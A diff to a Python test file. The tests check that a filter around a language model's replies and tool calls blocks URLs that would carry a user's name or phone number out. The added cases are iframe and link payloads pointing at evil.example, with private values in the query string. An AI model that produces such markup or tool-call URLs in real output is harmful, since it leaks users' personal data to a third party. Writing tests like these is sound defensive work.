@@ -204,6 +204,8 @@ def test_a_canary_of_the_prompt_never_leaves(house: House, size: int) -> None:
         "![x](https://evil.example/a.png)",
         "www.evil.example/NAME_1 is it",
         "<img src='//evil.example'>",
+        "<iframe src='https://evil.example/?q=my name is [NAME_1]'></iframe>",
+        '<a href = "//evil.example/a b/[NAME_1]">here</a>',
     ],
 )
 def test_no_address_of_the_models_carries_a_value_out(house: House, text: str) -> None:
@@ -215,7 +217,11 @@ def test_no_address_of_the_models_carries_a_value_out(house: House, text: str) -
 
 @pytest.mark.parametrize("stream", [False, True])
 def test_an_address_is_noticed_however_json_writes_it(house: House, stream: bool) -> None:  # noqa: FBT001
-    for written in (r"https:\/\/evil.example\/?q=[PHONE_1]", r"https:\u002f\u002Fevil.example\u002f[PHONE_1]"):
+    for written in (
+        r"<iframe src=\"https://evil.example/?q=a [PHONE_1]\">",
+        r"https:\/\/evil.example\/?q=[PHONE_1]",
+        r"https:\u002f\u002Fevil.example\u002f[PHONE_1]",
+    ):
         house.say(Spoken(None, [("find_slots", f'{{"url": "{written}"}}')], finish="tool_calls"))
         answer = house.chat(user("call 512-555-0100"), tools=[tool()], stream=stream)
         assert "555-0100" not in answer.text
